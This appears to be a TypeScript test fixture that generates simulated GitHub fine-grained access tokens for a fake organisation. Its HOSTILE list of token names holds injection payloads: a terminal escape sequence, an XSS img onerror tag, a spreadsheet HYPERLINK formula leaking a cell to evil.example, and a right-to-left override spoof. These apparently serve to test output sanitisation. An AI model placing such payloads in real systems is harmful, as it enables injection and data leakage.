import type { Company } from '../../../src/testing/company.ts';
import { chance, pick } from '../../../src/testing/random.ts';
import { type Account, accountOf, accountRow, MACHINE } from './accounts.ts';
import { zoned } from './dates.ts';
import { LEAVERS, type Roster } from './roster.ts';
import { type Repository, repositoryCount, repositoryOf } from './repositories.ts';
import { REQUESTED } from './token-requests.ts';
import { type Listing, listingOf } from './listing.ts';

/** A fine-grained token that may act in the organisation. */
export interface Token {
  grantId: number;
  tokenId: number;
  name: string;
  owner: number;
  selection: 'none' | 'all' | 'subset';
  permissions: TokenPermissions;
  granted: Date;
  /** Null = it never expires. */
  expires: Date | null;
  used: Date | null;
}

interface TokenPermissions {
  organization?: Readonly<Record<string, string>>;
  repository?: Readonly<Record<string, string>>;
}

const CODE: TokenPermissions = { repository: { contents: 'write', metadata: 'read', pull_requests: 'write' } };
const LOOK: TokenPermissions = { repository: { contents: 'read', metadata: 'read' } };

/** `age` and `left` in days around night 0; null = for ever. */
type Special = Pick<Token, 'name' | 'owner' | 'selection' | 'permissions'> & { age: number; left: number | null; unused?: true };

const SPECIAL: readonly Special[] = [
  { name: 'claude-code on laptop', owner: 1, selection: 'all', permissions: CODE, age: 70, left: null },
  {
    name: 'ci-release',
    owner: MACHINE,
    selection: 'subset',
    permissions: { organization: { members: 'read' }, repository: { contents: 'write', metadata: 'read', packages: 'write' } },
    age: 420,
    left: null,
  },
  { name: 'cursor-mcp', owner: 2, selection: 'subset', permissions: LOOK, age: 20, left: 40 },
  { name: 'release-notes (old)', owner: 2, selection: 'subset', permissions: LOOK, age: 300, left: -40 },
  { name: 'profile only', owner: 1, selection: 'none', permissions: {}, age: 15, left: 75, unused: true },
  { name: 'codex-cli', owner: LEAVERS.onFirstNight[1], selection: 'all', permissions: CODE, age: 90, left: null },
  { name: 'langchain-experiments', owner: LEAVERS.before, selection: 'all', permissions: CODE, age: 160, left: null },
];

/** In companies large enough to have such a colleague. */
const HOSTILE: readonly string[] = [
  '\u001b[2J\u001b]0;owned\u0007claude',
  '<img src=x onerror=alert(1)> openai',
  '=HYPERLINK("http://evil.example/?"&A1,"claude")',
  'claude\u202Egpj.lmth',
  `gpt-${'x'.repeat(10_240)}`,
];

const NAMES = [
  'dev laptop',
  'openai-agent',
  'vscode',
  'gh-cli',
  'n8n-automation',
  'backup',
  'terraform',
  'aider',
  'dashboards',
  'mcp-server',
];

/** The number of a grant is less than that of its token by so much. */
const GRANTS_BEFORE = 1_500_000;
/** Where the numbers of ordinary tokens begin: 31 for each owner. */
const FIRST_TOKEN = 4_000_000;

export function tokensOn(company: Company, roster: Roster, night: number): Listing<Token> {
  const fixed = [...specialTokens(company, night), ...approvedTokens(company, night)];
  const owners = roster.tokenOwners();
  return {
    size: fixed.length + owners.length,
    at: (index) => fixed[index] ?? ordinaryToken(company, owners[index - fixed.length]!, night),
  };
}

/** One of them, without making the others. */
export function tokenOf(grantId: number, company: Company, roster: Roster, night: number): Token | undefined {
  const owner = ownerOf(grantId);
  const ordinary = roster.tokenOwners().includes(owner) ? [ordinaryToken(company, owner, night)] : [];
  return [...specialTokens(company, night), ...approvedTokens(company, night), ...ordinary].find((token) => token.grantId === grantId);
}

function specialTokens(company: Company, night: number): Token[] {
  const hostile: Special[] = HOSTILE.map((name) => ({ name, owner: 2, selection: 'all', permissions: LOOK, age: 12, left: 78 }));
  const all = company.people >= 12 ? [...SPECIAL, ...hostile] : SPECIAL;
  return all
    .map((special, place) => ({ special, tokenId: 2_000_000 + place * 1009 }))
    .filter(({ special }) => special.owner < company.people)
    .map(({ special, tokenId }) => ({
      grantId: tokenId - GRANTS_BEFORE,
      tokenId,
      name: special.name,
      owner: special.owner,
      selection: special.selection,
      permissions: special.permissions,
      granted: company.ago(special.age, 3),
      expires: special.left === null ? null : company.ago(-special.left),
      used: special.unused ? null : lastUse(company, tokenId, night),
    }));
}

/** A request that was approved has become a token, with the token's id that it had. */
function approvedTokens(company: Company, night: number): Token[] {
  return REQUESTED.filter((request) => request.owner < company.people && request.approved !== undefined && night >= request.approved).map(
    (request) => ({
      grantId: request.tokenId - GRANTS_BEFORE,
      tokenId: request.tokenId,
      name: request.name,
      owner: request.owner,
      selection: request.selection,
      permissions: CODE,
      granted: company.ago(0, 7, request.approved),
      expires: company.ago(-request.left),
      used: null,
    }),
  );
}

/** Whose it is, if it is an ordinary one. */
function ownerOf(grantId: number): number {
  return Math.floor((grantId + GRANTS_BEFORE - FIRST_TOKEN) / 31);
}

function ordinaryToken(company: Company, owner: number, night: number): Token {
  const { seed } = company;
  const tokenId = FIRST_TOKEN + owner * 31 + Math.floor(chance(seed, 'token id', owner) * 31);
  const age = 1 + Math.floor(chance(seed, 'token age', owner) * 350);
  const lives = pick([30, 90, 365, null], seed, 'token life', owner);
  return {
    grantId: tokenId - GRANTS_BEFORE,
    tokenId,
    name: pick(NAMES, seed, 'token name', owner),
    owner,
    selection: pick(['none', 'all', 'subset', 'subset'] as const, seed, 'token selection', owner),
    permissions: pick([CODE, LOOK, { ...LOOK, organization: { members: 'read' } }], seed, 'token permissions', owner),
    granted: company.ago(age, 3),
    expires: lives === null ? null : company.ago(age - lives),
    used: chance(seed, 'token unused', owner) < 0.1 ? null : lastUse(company, tokenId, night),
  };
}

function lastUse(company: Company, tokenId: number, night: number): Date {
  return company.ago(0, 1 + Math.floor(chance(company.seed, 'token use', tokenId, night) * 18), night);
}

/** As GitHub writes it. */
export function tokenRow(token: Token, company: Company, organization: Account, origin: string, night: number) {
  return {
    id: token.grantId,
    owner: accountRow(accountOf(company, token.owner), origin),
    repository_selection: token.selection,
    repositories_url: `${origin}/organizations/${organization.id}/personal-access-tokens/${token.grantId}/repositories`,
    permissions: token.permissions,
    access_granted_at: zoned(token.granted),
    token_id: token.tokenId,
    token_name: token.name,
    token_expired: token.expires !== null && token.expires <= company.ago(0, 0, night),
    token_expires_at: token.expires && zoned(token.expires),
    token_last_used_at: token.used && zoned(token.used),
  };
}

/** The repositories of a token that reaches some of them: one or two. */
export function tokenRepositories(token: Token | undefined, company: Company): Listing<Repository> {
  return listingOf(token?.selection === 'subset' ? repositoriesOf(token, company) : []);
}

/** The same of a token by its number, also of one that is only asked for. */
export function repositoriesOf(token: Pick<Token, 'tokenId'>, company: Company): Repository[] {
  const first = token.tokenId % repositoryCount(company);
  return token.tokenId % 2 === 0 ? [repositoryOf(company, first)] : [repositoryOf(company, 0), repositoryOf(company, 1)];
}
